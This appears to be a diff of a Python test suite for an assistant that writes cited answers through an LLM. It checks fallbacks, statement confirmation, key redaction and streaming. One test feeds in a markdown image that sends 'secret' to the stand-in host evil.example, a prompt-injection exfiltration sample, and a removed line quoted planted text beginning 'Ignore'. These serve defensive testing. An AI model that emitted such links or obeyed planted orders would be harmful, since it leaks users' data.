@@ -4,19 +4,30 @@ import logging
 import socket
 import threading
 from contextlib import ExitStack
+from dataclasses import replace
 from http.server import BaseHTTPRequestHandler
 from typing import Any
 
 import pytest
 
-from assistant import Answer, AssistantSettings
+from assistant import Answer, AssistantSettings, Outcome
 from assistant.errors import Stopped
-from assistant.writing import ModelWriter
-from assistant.writing.opening import open_model
 from assistant.writing.writer import AT_ONCE
 from vectorstore import Library
 
-from .conftest import KEY, TEXT, Service, Write, drips, event, refuses, reply, send, streams
+from .conftest import (
+    KEY,
+    Service,
+    Write,
+    drips,
+    event,
+    refuses,
+    reply,
+    send,
+    streams,
+    writer_of,
+    written,
+)
 
 FERRY = "The ferry made 14 crossings in May"
 GOOD = reply((FERRY, [1]))
@@ -32,7 +43,8 @@ def proved(answer: Answer, library: Library) -> Answer:
     markers = {c.marker for c in answer.citations}
     for statement in answer.statements:
         assert statement.citations and set(statement.citations) <= markers
-        assert statement.text in text, "without a checker only what is verbatim stands"
+        if statement.status != "unconfirmed":
+            assert statement.text in text, "without a checker only what is verbatim is proved"
     assert KEY not in repr(answer) + str(answer.to_json())
     return answer
 
@@ -53,7 +65,7 @@ def test_a_proved_statement_is_shown_with_its_quote(
     answer = proved(write(), library)
     assert (answer.engine, answer.answer) == ("llm", f"{FERRY} [1]")
     shown = answer.to_json()
-    assert (shown["model"], shown["prompt"]) == ("listed-first", "answer-4")
+    assert (shown["model"], shown["prompt"]) == ("listed-first", "answer-5")
     assert shown["tokens"] == {"prompt": 321, "completion": 45}
     assert shown["fallback"] is None
     assert {"first_statement", "last_statement", "model"} <= set(shown["timings_ms"])
@@ -81,10 +93,10 @@ def test_nobody_there(library: Library, write: Write, extractive: Answer) -> Non
         (streams(""), "the model gave no statement"),
         (streams("", finish=None), "broke off in the middle"),
         (streams('{"statements": []}'), "the model gave no statement"),
-        (streams("Das Boot fuhr vierzehn Mal im Mai. [1]"), "did not pass the gate"),
-        (streams(reply((FERRY, []))), "did not pass the gate"),
-        (streams(reply((FERRY, [7]))), "did not pass the gate"),
-        (streams(reply((FERRY, [], "The ferry sank twice in June"))), "did not pass the gate"),
+        (streams(reply()), "the model gave no statement"),
+        (streams("Well, the documents say quite a lot about that."), "could not be confirmed"),
+        (streams(reply((FERRY, []))), "could not be confirmed"),
+        (streams(reply((FERRY, [7]))), "could not be confirmed"),
         (lambda h: send(h, 200, {"error": {"message": "no memory"}}), "no memory"),
         (lambda h: send(h, 200, ["what?"]), "what is no reply"),
     ],
@@ -100,15 +112,14 @@ def test_who_finds_the_model_writing_for_many_is_answered_in_quotes_at_once(
     service: Service, extractive: Answer, library: Library
 ) -> None:
     service.script = [streams(GOOD)]
-    table = AssistantSettings(llm=service.address)
-    writer = ModelWriter(open_model(table), library, table, None)
+    writer = writer_of(AssistantSettings(llm=service.address), library)
     with ExitStack() as others:
         for _ in range(AT_ONCE):
             others.enter_context(writer.place())
-        *_, answer = writer.begin().write(extractive)
+        *_, answer = written(writer, extractive)
     fell_back(answer, extractive, f"is writing {AT_ONCE} other answers")
     assert service.asked == []
-    *_, answer = writer.begin().write(extractive)
+    *_, answer = written(writer, extractive)
     assert answer.engine == "llm"
 
 
@@ -147,8 +158,8 @@ def test_a_hang_ends_at_the_time_limit(
 def test_what_came_whole_before_a_cut_is_shown(
     service: Service, write: Write, library: Library, finish: str | None, said: str
 ) -> None:
-    whole = reply((FERRY, [1]), ("The pier was painted green", [2]))
-    service.script = [streams(*whole[:-25], finish=finish)]
+    whole = reply((FERRY, [1]), ("The pier was painted green", [3]))
+    service.script = [streams(*whole[:-45], finish=finish)]
     answer = proved(write(), library)
     assert answer.answer == f"{FERRY} [1]"
     assert answer.written is not None and answer.written.fallback is not None
@@ -156,33 +167,27 @@ def test_what_came_whole_before_a_cut_is_shown(
     assert not answer.written.fallback.whole
 
 
-def test_what_does_not_stand_gives_way_to_its_quote_or_to_nothing(
+def test_what_cites_nothing_is_left_out_and_what_is_not_confirmed_is_marked(
     service: Service, write: Write, library: Library
 ) -> None:
-    service.script = [
-        streams(
-            reply(
-                (FERRY, [1]),
-                ("The pier was painted red in 1987.", [2]),
-                ("The ferry made 15 crossings in May.", [1]),
-                ("Nobody swims here.", [9]),
-            )
-        )
-    ]
+    red = "The pier was painted red in 1987."
+    service.script = [streams(reply((FERRY, [1]), (red, [3]), ("Nobody swims here.", [9])))]
     answer = proved(write(), library)
-    assert answer.answer == f"{FERRY} [1] The pier was painted green in 1987. [2]"
+    assert [s.status for s in answer.statements] == ["proved", "unconfirmed"]
+    assert [d.why for d in answer.dropped] == ["it cites line 9, which does not exist"]
     assert answer.written is not None and answer.written.fallback is not None
-    assert (answer.written.fallback.replaced, answer.written.fallback.left_out) == (1, 2)
-    assert [d.why for d in answer.dropped][-1] == "it cites quote 9, which does not exist"
+    assert (answer.written.fallback.whole, answer.written.fallback.left_out) == (False, 1)
+    dropped = proved(write(unconfirmed="drop"), library)
+    assert [s.text for s in dropped.statements] == [FERRY]
+    assert red in [d.text for d in dropped.dropped]
 
 
-def test_a_copied_quote_is_shown_as_the_source_has_it(
+def test_lines_that_follow_one_another_are_one_quote(
     service: Service, write: Write, library: Library
 ) -> None:
-    copied = 'said: "We won\'t sail in  fog - never."'
-    service.script = [streams(reply(("Captain Ada Berg", [], copied)))]
-    answer = proved(write(), library)
-    assert answer.citations[0].quote == "Captain Ada Berg said: “We won’t sail in fog – never.”"
+    service.script = [streams(reply((FERRY, [2, 1, 99])))]
+    (citation,) = proved(write(), library).citations
+    assert citation.quote.startswith("The ferry made") and citation.quote.endswith("never.”")
 
 
 def test_a_service_without_schemas_is_asked_for_less(
@@ -200,38 +205,15 @@ def test_a_service_without_schemas_is_asked_for_less(
     assert len(service.asked) > 3
 
 
-def test_evidence_is_trimmed_by_rank_where_the_prompt_is_too_long(
-    service: Service, write: Write, library: Library
-) -> None:
-    too_long = refuses(400, "the request exceeds the available context size")
-    service.script = [too_long, too_long, streams(GOOD)]
-    assert proved(write(), library).engine == "llm"
-    pieces = [
-        [line for line in asked["messages"][1]["content"].splitlines() if line.startswith("{")]
-        for asked in service.asked
-    ]
-    assert [len(each) for each in pieces] == [4, 2, 1]
-    assert pieces[2] == pieces[0][:1], "whole pieces, best first"
-
-
-def test_a_prompt_that_cannot_be_made_to_fit_falls_back(
-    service: Service, write: Write, library: Library, extractive: Answer
-) -> None:
-    service.script = [refuses(400, "maximum context length is 64 tokens")]
-    fell_back(proved(write(), library), extractive, "maximum context length")
-
-
 def test_orders_in_a_document_are_data(
     service: Service, write: Write, library: Library, extractive: Answer
 ) -> None:
     image = "![x](https://evil.example/?d=secret)"
-    service.script = [
-        streams(reply(("The harbour is closed.", [1]), (image, [], TEXT[TEXT.index("Ignore") :])))
-    ]
+    service.script = [streams(reply(("The harbour is closed. " + image, [4])))]
     answer = proved(write(), library)
     assert "<|im_start|>" not in service.prompt
     assert "evil.example" not in answer.answer
-    fell_back(answer, extractive, "did not pass the gate")
+    fell_back(answer, extractive, "could not be confirmed")
     assert answer.dropped[-1].why == "it holds a link or markup"
 
 
@@ -239,7 +221,7 @@ def test_the_key_reaches_no_log(
     service: Service, write: Write, library: Library, caplog: pytest.LogCaptureFixture
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    service.script = [refuses(500, f"boom {KEY}"), streams(reply((f"Look: {KEY}", [1])))]
+    service.script = [refuses(500, f"boom {KEY}"), streams(reply((f"Look: {KEY}", [99])))]
     answer = proved(write(), library)
     assert answer.dropped[-1].text == "Look: ****"
     assert KEY not in caplog.text
@@ -287,9 +269,8 @@ def test_a_question_that_is_stopped_ends_the_work(
 
     service.script = [goes_on]
     table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=600)
-    writing = ModelWriter(open_model(table), library, table, None).begin(stop)
     with pytest.raises(Stopped):
-        for answer in writing.write(extractive):
+        for answer in written(writer_of(table, library), extractive, stop):
             assert len(proved(answer, library).statements) == 1
             stop.set()
     assert let_go.wait(60)
@@ -300,7 +281,7 @@ def test_statements_come_as_they_are_proved(
 ) -> None:
     """The second is sent only once the first has been shown."""
     shown = threading.Event()
-    whole = reply((FERRY, [1]), ("The pier was painted green", [2]))
+    whole = reply((FERRY, [1]), ("The pier was painted green", [3]))
     cut = whole.index("}") + 1
 
     def rest() -> list[str]:
@@ -309,8 +290,39 @@ def test_statements_come_as_they_are_proved(
     service.script = [streams(whole[:cut], then=rest)]
     table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=20)
     grown = []
-    for answer in ModelWriter(open_model(table), library, table, None).begin().write(extractive):
+    for answer in written(writer_of(table, library), extractive):
         assert answer.written is not None and answer.written.model == "named"
         grown.append(len(proved(answer, library).statements))
         shown.set()
     assert grown == [1, 2, 2]
+
+
+def test_what_a_model_says_of_the_question_counts(
+    service: Service, write: Write, library: Library, extractive: Answer
+) -> None:
+    service.script = [streams(reply(outcome="not_stated", missing="who steered"))]
+    answer = write()
+    assert (answer.outcome, answer.reason, answer.engine) == (
+        Outcome.WITHHELD,
+        "not stated",
+        "llm",
+    )
+    assert answer.citations == () and answer.hits == extractive.hits
+    assert answer.confidence is not None and extractive.confidence is not None
+    assert answer.confidence < extractive.confidence
+    service.script = [streams(reply((FERRY, [1]), outcome="partial", missing="who steered"))]
+    answer = proved(write(llm_cache=0), library)
+    assert (answer.outcome, answer.missing) == (Outcome.PARTIAL, "who steered")
+
+
+def test_a_model_is_asked_where_nothing_was_found_without_it(
+    service: Service, library: Library, extractive: Answer
+) -> None:
+    silent = replace(extractive, outcome=Outcome.WITHHELD, statements=(), citations=(), answer="")
+    writer = writer_of(AssistantSettings(llm=service.address, llm_check="off"), library)
+    service.script = [streams(reply((FERRY, [1])))]
+    *_, answer = written(writer, silent)
+    assert (answer.outcome, answer.answer) == (Outcome.ANSWERED, f"{FERRY} [1]")
+    service.script = [streams("So they say [1].")]
+    *_, answer = written(writer_of(AssistantSettings(llm=service.address), library), silent)
+    assert answer.outcome is Outcome.WITHHELD, "a reply without the form says nothing of it"
